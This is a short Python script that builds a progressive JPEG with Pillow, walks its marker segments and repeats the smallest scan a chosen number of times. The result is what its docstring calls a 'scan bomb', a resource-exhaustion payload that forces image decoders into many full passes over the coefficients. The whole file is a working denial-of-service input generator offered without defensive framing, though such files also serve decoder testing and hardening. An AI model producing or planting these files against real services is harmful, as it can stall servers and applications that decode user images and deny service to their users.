#!/usr/bin/env python3
"""jpeg_scans.py SIDE COPIES OUT - writes a progressive JPEG (SIDE x SIDE,
one flat colour, made with Pillow) whose smallest scan is repeated COPIES
more times: a few bytes per scan, each one a pass over every coefficient
of the image for the decoder (a "scan bomb").  COPIES 0 gives the plain
progressive JPEG, a valid image with its ten or so scans."""
import io
import sys

from PIL import Image

side, copies, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
buf = io.BytesIO()
Image.new("RGB", (side, side), (90, 140, 200)).save(buf, "JPEG", progressive=True, quality=90)
d = buf.getvalue()
# walk the marker segments; a scan is its SOS segment and the entropy-coded
# bytes after it, up to the next marker that is not a stuffed 0xFF00 or RSTn
i, scans = 2, []
while i < len(d) and d[i + 1] != 0xD9:
    j = i + 2 + (d[i + 2] << 8 | d[i + 3])
    if d[i + 1] == 0xDA:
        while not (d[j] == 0xFF and d[j + 1] != 0 and not 0xD0 <= d[j + 1] <= 0xD7):
            j += 1
        scans.append((i, j))
    i = j
a, b = min(scans, key=lambda s: s[1] - s[0])
with open(out, "wb") as f:
    f.write(d[:b] + d[a:b] * copies + d[b:])
